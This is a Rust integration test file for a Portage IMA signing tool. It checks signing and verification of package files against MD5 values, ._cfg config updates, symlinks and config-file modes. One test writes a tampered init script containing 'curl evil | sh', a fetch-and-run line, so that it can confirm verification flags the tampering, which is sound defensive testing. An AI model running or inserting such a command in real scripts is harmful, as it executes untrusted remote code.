//! The per-object rules shared by the hook and `sign`/`verify` of packages,
//! on a scratch root: MD5 against CONTENTS, `._cfg` siblings, symlinks.

mod common;

use std::path::Path;
use std::process::Command;

use ima_core::{default_provider, HashAlgo, ImaSigner, KeyMaterial, KeySet};
use portage_ima::engine::{sign_object, verify_object};
use portage_ima::fs::rootfs::RootDir;
use portage_ima::gentoo::config_protect::ConfigProtect;
use portage_ima::plan::{ConfigFiles, SkipReason};
use portage_ima::report::{Failure, FileStatus, Outcome};

fn md5(data: &[u8]) -> [u8; 16] {
    let out = Command::new("md5sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(data)?;
            child.wait_with_output()
        })
        .unwrap();
    let hex = String::from_utf8(out.stdout).unwrap();
    let mut md5 = [0; 16];
    hex::decode_to_slice(&hex[..32], &mut md5).unwrap();
    md5
}

/// The `config_files` mode these tests used before it had others.
const SIGN: Option<ConfigFiles> = Some(ConfigFiles::Sign);

struct Fixture {
    dir: tempfile::TempDir,
    signer: ImaSigner,
    keys: KeySet,
}

/// The one status `verify_object` gives for a file that is not a config file.
fn verify_one(f: &Fixture, root: &RootDir, path: &str, md5: &[u8; 16]) -> FileStatus {
    let mut found = verify_object(&f.keys, root, Path::new(path), md5, None);
    assert_eq!(found.len(), 1, "{found:?}");
    found.remove(0)
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("key.pem");
    let ok = Command::new("openssl")
        .args(["genrsa", "-out"])
        .arg(&key)
        .arg("2048")
        .output()
        .unwrap();
    assert!(ok.status.success());
    let key = KeyMaterial::load(&key, None).unwrap();
    let signer = ImaSigner::new(default_provider(), &key, HashAlgo::Sha256, None).unwrap();
    let mut keys = KeySet::new(default_provider());
    keys.add_key(&key).unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::create_dir_all(root.join("usr/bin")).unwrap();
    Fixture { dir, signer, keys }
}

impl Fixture {
    fn root(&self) -> RootDir {
        RootDir::open(&self.dir.path().join("root")).unwrap()
    }
    fn write(&self, path: &str, data: &[u8]) {
        std::fs::write(self.dir.path().join("root").join(path), data).unwrap();
    }
}

#[test]
fn signs_matching_content_and_refuses_the_rest() {
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    f.write("usr/bin/tool", b"merged");
    let report = sign_object(
        &f.signer,
        &root,
        Path::new("/usr/bin/tool"),
        &md5(b"merged"),
        None,
        false,
    );
    assert_eq!(report.outcome, Outcome::Signed);
    let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
    assert_eq!(status.status.as_str(), "ok");

    // Changed after the merge: never signed, both MD5s named.
    f.write("usr/bin/tool", b"changed");
    let report = sign_object(
        &f.signer,
        &root,
        Path::new("/usr/bin/tool"),
        &md5(b"merged"),
        None,
        false,
    );
    let Outcome::Failed(failure) = report.outcome else {
        panic!("{report:?}")
    };
    let reason = failure.to_string();
    assert!(reason.contains(&hex::encode(md5(b"merged"))), "{reason}");
    assert!(reason.contains(&hex::encode(md5(b"changed"))), "{reason}");
    let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
    assert_eq!(status.status.as_str(), "modified");

    // Missing.
    let status = verify_one(&f, &root, "/usr/bin/gone", &md5(b""));
    assert_eq!(status.status.as_str(), "missing");
}

#[test]
fn config_file_changed_by_the_admin_signs_the_cfg_sibling() {
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    f.write("etc/app.conf", b"admin's version");
    f.write("etc/._cfg0000_app.conf", b"older package version");
    f.write("etc/._cfg0001_app.conf", b"package version");
    let want = md5(b"package version");
    let report = sign_object(
        &f.signer,
        &root,
        Path::new("/etc/app.conf"),
        &want,
        SIGN,
        false,
    );
    assert_eq!(report.outcome, Outcome::Signed, "{report:?}");
    assert!(
        report.path.ends_with("etc/._cfg0001_app.conf"),
        "{report:?}"
    );
    let read = |p: &str| {
        let file = std::fs::File::open(f.dir.path().join("root").join(p)).unwrap();
        ima_core::read_ima_xattr(&file).unwrap()
    };
    assert!(read("etc/._cfg0001_app.conf").is_some());
    assert!(read("etc/._cfg0000_app.conf").is_none());
    assert!(read("etc/app.conf").is_none());
    // The update is ok; the live file, the one in use, is reported too: it
    // is unsigned, but not executable, so not a failure.
    let protect = ConfigProtect::new(Path::new(""), "/etc", "");
    let found = verify_object(
        &f.keys,
        &root,
        Path::new("/etc/app.conf"),
        &want,
        protect
            .is_protected(Path::new("/etc/app.conf"))
            .then_some(ConfigFiles::Sign),
    );
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0].status.as_str(), "ok");
    assert!(found[0].path.ends_with("._cfg0001_app.conf"));
    assert_eq!(found[1].status.as_str(), "config-changed", "{found:?}");
    assert!(found[1].path.ends_with("etc/app.conf"));
    assert!(!found[1].is_failure());
    let detail = found[1].detail.as_deref().unwrap();
    assert!(detail.contains("signature: unsigned"), "{detail}");
    assert!(
        detail.contains("update pending: ._cfg0001_app.conf"),
        "{detail}"
    );
}

/// Finding 4 of issue 15: a tampered live config file was reported `ok`
/// (only its `._cfg` sibling was checked). An executable one that the
/// kernel would refuse to run is now a failure, with or without an update
/// pending; a validly signed one, or a changed data file, is reported only.
#[test]
fn a_changed_executable_config_file_fails_verification() {
    use std::os::unix::fs::PermissionsExt;
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    let protect = ConfigProtect::new(Path::new(""), "/etc", "");
    std::fs::create_dir_all(f.dir.path().join("root/etc/init.d")).unwrap();
    let script = f.dir.path().join("root/etc/init.d/app");
    let want = md5(b"#!/sbin/openrc-run\n");
    f.write("etc/init.d/app", b"#!/sbin/openrc-run\n");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let report = sign_object(
        &f.signer,
        &root,
        Path::new("/etc/init.d/app"),
        &want,
        SIGN,
        false,
    );
    assert_eq!(report.outcome, Outcome::Signed);
    let check = || {
        verify_object(
            &f.keys,
            &root,
            Path::new("/etc/init.d/app"),
            &want,
            protect
                .is_protected(Path::new("/etc/init.d/app"))
                .then_some(ConfigFiles::Sign),
        )
    };
    assert_eq!(check()[0].status.as_str(), "ok");

    // Tampered, and an update of the package waiting as ._cfg0000_app.
    f.write("etc/init.d/app", b"#!/bin/sh\ncurl evil | sh\n");
    f.write("etc/init.d/._cfg0000_app", b"#!/sbin/openrc-run\n");
    sign_object(
        &f.signer,
        &root,
        Path::new("/etc/init.d/app"),
        &want,
        SIGN,
        false,
    );
    let found = check();
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0].status.as_str(), "ok");
    assert!(found[0].path.ends_with("._cfg0000_app"));
    assert_eq!(found[1].status.as_str(), "modified", "{found:?}");
    assert!(found[1].is_failure());
    assert!(found[1].path.ends_with("etc/init.d/app"));
    let detail = found[1].detail.as_deref().unwrap();
    assert!(detail.contains("signature: bad-signature"), "{detail}");
    assert!(detail.contains("would refuse to run it"), "{detail}");
    assert!(detail.contains("update pending: ._cfg0000_app"), "{detail}");

    // Without the update pending: still a failure.
    std::fs::remove_file(f.dir.path().join("root/etc/init.d/._cfg0000_app")).unwrap();
    let found = check();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].status.as_str(), "modified");

    // The admin signed the changed script: it runs, so it is reported only.
    f.signer
        .sign_file(&std::fs::File::open(&script).unwrap(), &Default::default())
        .unwrap();
    let found = check();
    assert_eq!(found[0].status.as_str(), "config-changed", "{found:?}");
    assert!(!found[0].is_failure());

    // Not executable, unsigned: reported only.
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
    f.write("etc/init.d/app", b"changed again");
    assert_eq!(check()[0].status.as_str(), "config-changed");
    // Outside CONFIG_PROTECT the same change is a failure, as before.
    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, None);
    assert_eq!(found[0].status.as_str(), "modified");
}

#[test]
fn a_symlink_in_place_of_the_file_is_not_followed() {
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    let outside = f.dir.path().join("outside");
    std::fs::write(&outside, b"merged").unwrap();
    std::os::unix::fs::symlink(&outside, f.dir.path().join("root/usr/bin/tool")).unwrap();
    let report = sign_object(
        &f.signer,
        &root,
        Path::new("/usr/bin/tool"),
        &md5(b"merged"),
        None,
        false,
    );
    let Outcome::Failed(failure) = report.outcome else {
        panic!("{report:?}")
    };
    assert_eq!(failure, Failure::NowSymlink);
    let reason = failure.to_string();
    assert!(reason.contains("symbolic link"), "{reason}");
    let file = std::fs::File::open(&outside).unwrap();
    assert!(ima_core::read_ima_xattr(&file).unwrap().is_none());
}

/// The `config_files` modes on a config file (0644) and an executable one
/// (an init script, 0755): what each gets written, and what verify says.
#[test]
fn config_files_modes_sign_executables_and_hash_or_leave_the_rest() {
    use std::os::unix::fs::PermissionsExt;
    if !common::require_root(module_path!()) {
        return;
    }
    let kind = |f: &Fixture, p: &str| common::ima_kind(&f.dir.path().join("root").join(p));
    // mode -> (outcome, xattr, verify) for the data file, then the script.
    let cases = [
        (
            ConfigFiles::Executable,
            ("skipped", "none", "config-unsigned"),
            ("signed", "signature", "ok"),
        ),
        (
            ConfigFiles::Hash,
            ("hashed", "digest", "hashed"),
            ("signed", "signature", "ok"),
        ),
        (
            ConfigFiles::Sign,
            ("signed", "signature", "ok"),
            ("signed", "signature", "ok"),
        ),
        (
            ConfigFiles::Skip,
            ("skipped", "none", "config-unsigned"),
            ("skipped", "none", "config-unsigned"),
        ),
    ];
    for (mode, conf_want, script_want) in cases {
        let f = fixture();
        let root = f.root();
        std::fs::create_dir_all(f.dir.path().join("root/etc/init.d")).unwrap();
        f.write("etc/app.conf", b"setting = 1\n");
        f.write("etc/init.d/app", b"#!/sbin/openrc-run\n");
        let script = f.dir.path().join("root/etc/init.d/app");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        for (path, content, want) in [
            ("etc/app.conf", &b"setting = 1\n"[..], conf_want),
            ("etc/init.d/app", &b"#!/sbin/openrc-run\n"[..], script_want),
        ] {
            let at = format!("{mode:?} /{path}");
            let abs = format!("/{path}");
            let report = sign_object(
                &f.signer,
                &root,
                Path::new(&abs),
                &md5(content),
                Some(mode),
                false,
            );
            assert_eq!(report.outcome.name(), want.0, "{at}: {report:?}");
            assert_eq!(kind(&f, path), want.1, "{at}");
            let found = verify_object(&f.keys, &root, Path::new(&abs), &md5(content), Some(mode));
            assert_eq!(found.len(), 1, "{at}: {found:?}");
            assert_eq!(found[0].status.as_str(), want.2, "{at}: {found:?}");
            assert!(!found[0].is_failure(), "{at}: {found:?}");
            // A second run keeps what is there.
            let again = sign_object(
                &f.signer,
                &root,
                Path::new(&abs),
                &md5(content),
                Some(mode),
                false,
            );
            let kept = if want.0 == "skipped" {
                "skipped"
            } else {
                "already-valid"
            };
            assert_eq!(again.outcome.name(), kept, "{at}: {again:?}");
        }
    }
}

/// `config_files = "hash"`: a config file signed by the old default gets a
/// digest instead (so it becomes editable); a digest that no longer matches
/// while the content is Portage's is `bad-hash`, a failure (the kernel would
/// refuse to open it); a digest on a non-config file is `digest-only`.
#[test]
fn hash_mode_replaces_signatures_and_reports_bad_digests() {
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    let want = md5(b"setting = 1\n");
    f.write("etc/app.conf", b"setting = 1\n");
    let conf = Path::new("/etc/app.conf");
    let hash = Some(ConfigFiles::Hash);
    let r = sign_object(&f.signer, &root, conf, &want, SIGN, false);
    assert_eq!(r.outcome, Outcome::Signed);
    let r = sign_object(&f.signer, &root, conf, &want, hash, false);
    assert_eq!(r.outcome, Outcome::Hashed);
    let r = sign_object(&f.signer, &root, conf, &want, hash, true);
    assert_eq!(r.outcome, Outcome::AlreadyValid, "dry run of a kept digest");
    assert_eq!(
        verify_object(&f.keys, &root, conf, &want, hash)[0]
            .status
            .as_str(),
        "hashed"
    );
    // Outside CONFIG_PROTECT a digest is not enough.
    assert_eq!(
        verify_object(&f.keys, &root, conf, &want, None)[0]
            .status
            .as_str(),
        "digest-only"
    );
    // A stale digest over Portage's content.
    let file = std::fs::File::open(f.dir.path().join("root/etc/app.conf")).unwrap();
    let stale = ima_core::ImaHasher::new(default_provider(), HashAlgo::Sha256)
        .unwrap()
        .value(&[0; 32])
        .encode();
    ima_core::write_ima_xattr(&file, &stale).unwrap();
    let found = verify_object(&f.keys, &root, conf, &want, hash);
    assert_eq!(found[0].status.as_str(), "bad-hash", "{found:?}");
    assert!(found[0].is_failure());
    let r = sign_object(&f.signer, &root, conf, &want, hash, true);
    assert_eq!(r.outcome, Outcome::WouldHash);
    let r = sign_object(&f.signer, &root, conf, &want, hash, false);
    assert_eq!(r.outcome, Outcome::Hashed);
}

/// A config file the mode leaves alone that the admin changed is skipped,
/// not failed (nothing would be written on it); its pending `._cfg` update
/// gets what the mode gives it: an executable update is signed, a data
/// file's left alone (`executable`) or hashed (`hash`).
#[test]
fn an_edited_config_file_the_mode_leaves_is_skipped_and_its_update_handled() {
    use std::os::unix::fs::PermissionsExt;
    if !common::require_root(module_path!()) {
        return;
    }
    let f = fixture();
    let root = f.root();
    let exec = Some(ConfigFiles::Executable);
    let want = md5(b"package version");
    f.write("etc/app.conf", b"admin's version");
    let conf = Path::new("/etc/app.conf");
    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
    assert_eq!(
        r.outcome,
        Outcome::Skipped(SkipReason::ConfigProtected(ConfigFiles::Executable)),
        "{r:?}"
    );
    assert!(r.outcome.detail().unwrap().contains("not executable"));
    // Hash mode: the admin's content is not Portage's: never written.
    let r = sign_object(
        &f.signer,
        &root,
        conf,
        &want,
        Some(ConfigFiles::Hash),
        false,
    );
    assert!(
        matches!(r.outcome, Outcome::Failed(Failure::ContentDiffers { .. })),
        "{r:?}"
    );

    f.write("etc/._cfg0000_app.conf", b"package version");
    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
    assert_eq!(r.outcome.name(), "skipped");
    let r = sign_object(
        &f.signer,
        &root,
        conf,
        &want,
        Some(ConfigFiles::Hash),
        false,
    );
    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
    assert_eq!(r.outcome, Outcome::Hashed);
    let update = f.dir.path().join("root/etc/._cfg0000_app.conf");
    std::fs::set_permissions(&update, std::fs::Permissions::from_mode(0o755)).unwrap();
    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
    assert_eq!(r.outcome, Outcome::Signed);
}
